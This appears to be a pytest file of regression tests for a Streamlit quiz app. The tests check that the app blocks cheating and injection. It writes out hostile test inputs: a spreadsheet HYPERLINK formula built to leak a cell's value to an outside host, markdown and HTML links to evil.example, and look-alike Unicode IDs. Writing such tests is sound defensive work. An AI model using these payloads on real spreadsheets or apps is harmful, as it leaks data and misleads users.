"""Each way of cheating the quizzes that the app must close, as a regression test in AppTest:
a reload, an old receipt, practice numbers, look-alike names, a typed name under sign-in,
CSV injection, a large upload, markdown in names and answers, and two app servers that share
one PostgreSQL database (separate processes)."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import lab
import pages.ui.quiz as quiz_page
from pages.ui.quiz import answer_key, submit_key, upload_key
from pages.ui.quiz import quiz_session_key as page_session_key
from pages.ui.student import STUDENT_ID_KEY, STUDENT_KEY
from quizzes.__main__ import main as quizzes_main
from quizzes.ledger import Ledger
from quizzes.receipts import MAX_RECEIPT_BYTES, make_receipt, receipt_to_json
from quizzes.session import QuizSession
from tests.pages.test_quizzes import (
    QUIZ_PAGES,
    SECRET,
    TIMEOUT,
    VARIANT_KEY,
    WRONGS,
    download_bytes,
    open_page,
    record_downloads,  # noqa: F401 - the autouse fixture that keeps download bytes
    session_of,
)
from tests.pages.test_quizzes import answer as answer_question

ROOT = Path(__file__).resolve().parents[2]
FORMULAS = QUIZ_PAGES["formulas"]
ZERO_WIDTH_SPACE = "\u200b"
CYRILLIC_O = "\u043e"
MARKDOWN_NAME = "[click](http://evil.example) ![x](http://evil.example/i.png) <b>hi</b> **B**"


@pytest.fixture(autouse=True)
def own_ledger(monkeypatch, tmp_path):
    """Each test's app keeps its attempt ledger (the default SQLite file) in tmp_path."""
    monkeypatch.setenv("LAB_DATA_DIR", str(tmp_path))


def typed(at: AppTest, name: str, student_id: str, page: str = FORMULAS) -> AppTest:
    """Type a name and an ID in the sidebar, then open ``page``."""
    at.sidebar.text_input(key=STUDENT_KEY).input(name)
    at.sidebar.text_input(key=STUDENT_ID_KEY).input(student_id).run()
    at.switch_page(page).run()
    assert not at.exception
    return at


def fresh_app(**secrets) -> AppTest:
    at = AppTest.from_file("../../streamlit_app.py", default_timeout=TIMEOUT)
    at.secrets["variant_key"] = VARIANT_KEY
    at.secrets.update(secrets)
    return at.run()


def every_text(at: AppTest) -> list[str]:
    """The text of every markdown-rendered element (markdown, captions, alerts)."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success")
    return [element.value for kind in kinds for element in at.get(kind)]


# --------------------------------------------------------------------------- attempts


def test_a_reload_keeps_the_used_attempts() -> None:
    at = open_page(FORMULAS, "Ada")
    for wrong in WRONGS:
        answer_question(at, "Ada", "formulas", "he_std", wrong)
    # A reload is a new browser session: new session state, same student.
    reloaded = open_page(FORMULAS, "Ada")
    session = session_of(reloaded, "Ada", "formulas")
    assert session.attempts_left("he_std") == 0
    assert session.nonce != session_of(at, "Ada", "formulas").nonce
    assert not [b for b in reloaded.button if b.key and ":he_std:" in b.key]  # no form
    assert any("Attempts used" == m.label and m.value == "3" for m in reloaded.metric)


def test_an_old_receipt_does_not_reset_the_attempts() -> None:
    at = open_page(FORMULAS, "Ada", secret=SECRET)
    old = download_bytes(at)  # no attempt yet, validly signed
    for wrong in WRONGS:
        answer_question(at, "Ada", "formulas", "he_std", wrong)
    skey = quiz_session_key_of("Ada")
    at.file_uploader(key=upload_key(skey)).set_value(("old.json", old, "application/json")).run()
    assert not at.exception
    assert any("Receipt checked" in box.value for box in at.sidebar.success)
    session = session_of(at, "Ada", "formulas")
    assert session.attempts_left("he_std") == 0 and session.progress().attempts_used == 3
    # The new receipt carries this session's nonce and the whole attempt history.
    receipt = json.loads(download_bytes(at))
    (he_std,) = [q for q in receipt["questions"] if q["id"] == "he_std"]
    assert [a["answer"] for a in he_std["attempts"]] == list(WRONGS)
    assert {a["nonce"] for a in he_std["attempts"]} == {receipt["nonce"]} == {session.nonce}


def quiz_session_key_of(student: str, quiz_id: str = "formulas", mode: str = "graded") -> str:
    from tests.pages.test_quizzes import quiz_session_key

    return quiz_session_key(student, quiz_id, mode)


def test_practice_never_shows_the_graded_numbers() -> None:
    graded = open_page(FORMULAS, "Ada")
    practice = open_page("pages/quiz_practice.py", "Ada")
    graded_session = session_of(graded, "Ada", "formulas")
    practice_session = session_of(practice, "Ada", "formulas", "practice")
    for question_id in ("he_variance", "he_std", "conv_fan_in", "xavier_uniform_bound"):
        assert practice_session.current_params(question_id) != graded_session.current_params(
            question_id
        )
    prompt = graded_session.question("he_variance").render_prompt(
        graded_session.current_params("he_variance")
    )
    assert prompt in [m.value for m in graded.markdown]
    assert prompt not in [m.value for m in practice.markdown]


# --------------------------------------------------------------------------- identity


def test_look_alike_names_and_ids() -> None:
    key = page_session_key("id:s1234567", "formulas")
    plain_name = typed(fresh_app(), "Ada Lovelace", "s1234567").session_state[key]
    # A zero-width space and a Cyrillic "о" in the name: the ID identifies, same student.
    hidden = typed(fresh_app(), f"Ada{ZERO_WIDTH_SPACE} L{CYRILLIC_O}velace", "s1234567")
    same = hidden.session_state[key]
    assert same.student_key == plain_name.student_key == "id:s1234567"
    assert same.current_params("he_variance") == plain_name.current_params("he_variance")
    assert same.student == f"Ada L{CYRILLIC_O}velace"  # NFKC keeps the Cyrillic letter
    # A zero-width space in the ID is removed: still the same student.
    spaced = typed(fresh_app(), "Ada", f"s123{ZERO_WIDTH_SPACE}4567")
    assert spaced.session_state[key].student_key == "id:s1234567"
    # A Cyrillic letter in the ID is refused: no shopping for numbers with look-alike IDs.
    cyrillic = typed(fresh_app(), "Ada", f"s{CYRILLIC_O}1234567")
    assert any("Student ID must use only" in e.value for e in cyrillic.sidebar.error)
    assert not [b for b in cyrillic.button if b.key and b.key.startswith("quiz_submit:")]
    assert any("Enter your name and student ID" in box.value for box in cyrillic.info)
    assert any("Self-declared identity" in c.value for c in cyrillic.sidebar.caption)


def test_under_sign_in_a_typed_name_is_not_an_identity() -> None:
    auth = {
        "redirect_uri": "http://localhost:8501/oauth2callback",
        "cookie_secret": "test cookie secret",
        "client_id": "lab",
        "client_secret": "lab secret",
        "server_metadata_url": "http://127.0.0.1:9/.well-known/openid-configuration",
    }
    at = AppTest.from_file("../../streamlit_app.py", default_timeout=TIMEOUT)
    at.secrets.update(variant_key=VARIANT_KEY, auth=auth)
    at.user = {"is_logged_in": False}
    at.session_state[STUDENT_KEY] = "Grace Hopper"  # as if typed: there is no box to type in
    at.session_state[STUDENT_ID_KEY] = "ghopper"
    at.run()
    at.switch_page(FORMULAS).run()
    assert not at.exception
    assert not at.sidebar.text_input  # no name or ID box
    assert [b.label for b in at.sidebar.button] == ["Sign in"]
    assert any("Sign in" in box.value for box in at.info)
    assert not [b for b in at.button if b.key and b.key.startswith("quiz_submit:")]

    at.user = {"is_logged_in": True, "email": "Ada@Uni.example", "name": MARKDOWN_NAME}
    at.run()
    assert not at.exception
    shown = [t.value for t in at.sidebar.text]
    assert shown == [MARKDOWN_NAME, "Ada@Uni.example"]  # st.text: shown as typed, never markup
    assert [b.label for b in at.sidebar.button if b.label != "Resume from a receipt"] == [
        "Sign out"
    ]
    session = at.session_state[page_session_key("sso:ada@uni.example", "formulas")]
    assert session.student_id == "Ada@Uni.example" and session.student == MARKDOWN_NAME
    assert not any("Self-declared" in c.value for c in at.caption)
    assert not any("[click](http" in text for text in every_text(at))


# --------------------------------------------------------------------------- text and files


def test_markdown_in_names_and_answers_is_shown_as_text() -> None:
    at = typed(fresh_app(receipt_key=SECRET), MARKDOWN_NAME, "mallory")
    skey = page_session_key("id:mallory", "formulas")
    # A wrong answer full of markdown that still parses as a number (2*3*4 = 24).
    at.text_input(key=answer_key(skey, "he_std", 0)).input("2*3*4")
    at.button(key=submit_key(skey, "he_std", 0)).click().run()
    assert not at.exception
    history = [c.value for c in at.caption if c.value.startswith("Your attempts")]
    assert history == ["Your attempts: 2\\*3\\*4 wrong, credit 0.00"]
    # Another student's receipt whose name is markdown: the error quotes it as text.
    other = QuizSession(MARKDOWN_NAME, "formulas", student_key="id:other")
    data = receipt_to_json(make_receipt(other, SECRET, lab.__version__)).encode()
    at.file_uploader(key=upload_key(skey)).set_value(("r.json", data, "application/json")).run()
    (error,) = at.sidebar.error
    assert "belongs to" in error.value and "\\[click\\]\\(http" in error.value
    for text in every_text(at):
        assert "[click](http" not in text and "<b>" not in text, text


def test_a_large_upload_is_refused_before_it_is_read(monkeypatch) -> None:
    def never(*args, **kwargs):
        raise AssertionError("an upload over 1 MB must not be decoded")

    monkeypatch.setattr(quiz_page, "load_receipt", never)
    at = open_page(FORMULAS, "Ada", secret=SECRET)
    big = b"{" + b" " * MAX_RECEIPT_BYTES + b"}"
    skey = quiz_session_key_of("Ada")
    at.file_uploader(key=upload_key(skey)).set_value(("big.json", big, "application/json")).run()
    assert not at.exception
    (error,) = at.sidebar.error
    assert "larger than 1 MB" in error.value
    config = (ROOT / ".streamlit" / "config.toml").read_text()
    assert "maxUploadSize = 1\n" in config  # Streamlit itself refuses larger uploads


def test_csv_injection_through_a_typed_name(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://x/?"&A1,"click")'
    at = typed(fresh_app(receipt_key=SECRET), name, "-2+3")
    path = tmp_path / "receipt.json"
    path.write_bytes(download_bytes(at))
    out = tmp_path / "gradebook.csv"
    assert quizzes_main(["grade", str(path), "--csv", str(out), "--key", SECRET]) == 0
    with out.open(newline="", encoding="utf-8") as stream:
        (row,) = list(csv.DictReader(stream))
    assert row["Student"] == f"'{name}" and row["SIS Login ID"] == "'-2+3"


# --------------------------------------------------------------------------- two servers

SERVER = textwrap.dedent(
    """
    import json, sys
    from streamlit.testing.v1 import AppTest
    from pages.ui.quiz import answer_key, quiz_session_key, submit_key

    url, answer = sys.argv[1], sys.argv[2]
    at = AppTest.from_file(sys.argv[3], default_timeout=60)
    at.secrets["variant_key"] = "two servers"
    at.secrets["connections"] = {"sql": {"url": url}}
    at.session_state["student"], at.session_state["student_id"] = "Ada", "ada1"
    at.run()
    at.switch_page("pages/quiz_formulas.py").run()
    key = quiz_session_key("id:ada1", "formulas")
    before = at.session_state[key].attempts_left("he_std")
    at.text_input(key=answer_key(key, "he_std", 0)).input(answer)
    at.button(key=submit_key(key, "he_std", 0)).click().run()
    session = at.session_state[key]
    print(json.dumps({"before": before, "after": session.attempts_left("he_std"),
                      "nonce": session.nonce, "error": bool(at.exception)}))
    """
)


def run_server(url: str, answer: str) -> dict:
    """One app instance in its own process: opens the quiz as Ada and submits ``answer``."""
    result = subprocess.run(
        [sys.executable, "-c", SERVER, url, answer, str(ROOT / "streamlit_app.py")],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return json.loads(result.stdout.strip().splitlines()[-1])


def test_two_app_servers_share_one_ledger(postgres_url: str) -> None:
    # Two processes, as two replicas behind a load balancer, on one PostgreSQL database (two
    # engines on one SQLite file: tests/quizzes/test_ledger.py).
    ledger_url = postgres_url
    first = run_server(ledger_url, WRONGS[0])
    second = run_server(ledger_url, WRONGS[1])
    assert (first["before"], first["after"]) == (3, 2)
    # The second server counts the attempt made through the first.
    assert (second["before"], second["after"]) == (2, 1)
    assert not first["error"] and not second["error"]
    rows = Ledger(ledger_url).rows()
    assert [(row.attempt, row.answer, row.nonce) for row in rows] == [
        (1, WRONGS[0], first["nonce"]),
        (2, WRONGS[1], second["nonce"]),
    ]
    assert first["nonce"] != second["nonce"]
